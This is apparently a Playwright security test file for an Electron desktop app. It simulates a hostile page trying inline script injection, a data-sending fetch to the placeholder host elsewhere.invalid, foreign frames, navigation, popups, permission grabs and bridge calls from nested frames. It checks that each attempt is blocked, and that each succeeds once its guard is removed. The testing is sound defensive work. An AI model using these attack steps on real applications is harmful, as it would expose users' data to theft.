// What a hostile page tries, and what stops it. Each guard has its control: without that guard the same attack works.
import { expect, type Page, test } from '@playwright/test';
import { closeWell, type DesktopApp, electronBinary, launch } from './launch.ts';
import type { Guard } from './stand-in/guards.ts';

/** Each attack answers whether it got through. */
const attacks = {
  async 'an inline script'(page: Page) {
    return page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.ranInline = true';
      document.body.append(script);
      return 'ranInline' in window;
    });
  },
  async 'a request to another machine'(page: Page) {
    return page.evaluate(() =>
      fetch('https://elsewhere.invalid/take?what=orders').then(
        () => true,
        () => false,
      ),
    );
  },
  async 'a frame from another machine'(page: Page) {
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.invalid/';
      document.body.append(frame);
    });
    await page.waitForTimeout(1_000);
    return page.frames().some((frame) => isElsewhere(frame.url()));
  },
  async 'a way to another page'(page: Page) {
    await page.evaluate(() => {
      location.href = 'https://elsewhere.invalid/';
    });
    await page.waitForTimeout(1_000);
    return isElsewhere(page.url());
  },
  async 'a new window'(page: Page) {
    await page.evaluate(() => void window.open('https://elsewhere.invalid/'));
    await page.waitForTimeout(1_000);
    return page.context().pages().length > 1;
  },
  async 'a permission'(page: Page) {
    return page.evaluate(
      async () => (await navigator.permissions.query({ name: 'notifications' })).state === 'granted',
    );
  },
  async 'a message to main from a frame inside the page'(page: Page) {
    return page.evaluate(async () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const asked = (frame.contentWindow as Window | null)?.backfill?.openRecord();
      return asked === undefined
        ? false
        : asked.then(
            () => true,
            () => false,
          );
    });
  },
} satisfies Record<string, (page: Page) => Promise<boolean>>;

type Attack = keyof typeof attacks;

const isElsewhere = (url: string): boolean => url.startsWith('https://elsewhere.invalid');

test.describe('the desktop app stops', () => {
  let app: DesktopApp;
  test.beforeAll(async () => {
    app = await launch();
  });
  test.afterAll(() => closeWell(app));

  for (const name of Object.keys(attacks) as Attack[]) {
    test(name, async () => {
      expect(await attacks[name](await app.page())).toBe(false);
    });
  }
});

/** With these guards gone, does an attack get through? Where it does not, another guard stands behind. */
const controls: readonly { without: readonly Guard[]; getsThrough: Partial<Record<Attack, boolean>> }[] = [
  {
    without: ['csp'],
    getsThrough: {
      'an inline script': true,
      'a request to another machine': false,
      'a frame from another machine': false,
    },
  },
  {
    without: ['csp', 'navigation'],
    getsThrough: { 'a frame from another machine': false, 'a way to another page': false },
  },
  {
    without: ['csp', 'navigation', 'network'],
    getsThrough: {
      'a request to another machine': true,
      'a frame from another machine': true,
      'a way to another page': true,
    },
  },
  {
    without: ['popup', 'permission'],
    getsThrough: {
      'a permission': true,
      'a new window': true,
    },
  },
];

for (const { without, getsThrough } of controls) {
  test(`without ${without.join(', ')}`, async () => {
    test.skip(electronBinary !== null, 'a real Electron keeps its guards');
    const app = await launch({ without });
    const page = await app.page();
    const found: Partial<Record<Attack, boolean>> = {};
    for (const name of Object.keys(getsThrough) as Attack[]) found[name] = await attacks[name](page);
    expect(found).toEqual(getsThrough);
    await closeWell(app);
  });
}

test('a frame that has the verbs of the page is refused, where the page itself is heard', async () => {
  test.skip(electronBinary !== null, 'a real Electron gives frames no preload script');
  const app = await launch({ without: ['frames'] });
  const page = await app.page();
  const answers = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inFrame = (frame.contentWindow as Window | null)?.backfill;
    const ask = async (bridge: typeof inFrame) => bridge?.openRecord().then(() => 'heard', String);
    return Promise.all([ask(inFrame), ask(window.backfill)]);
  });
  expect(answers).toEqual([expect.stringContaining('not allowed from here'), 'heard']);
  await closeWell(app);
});
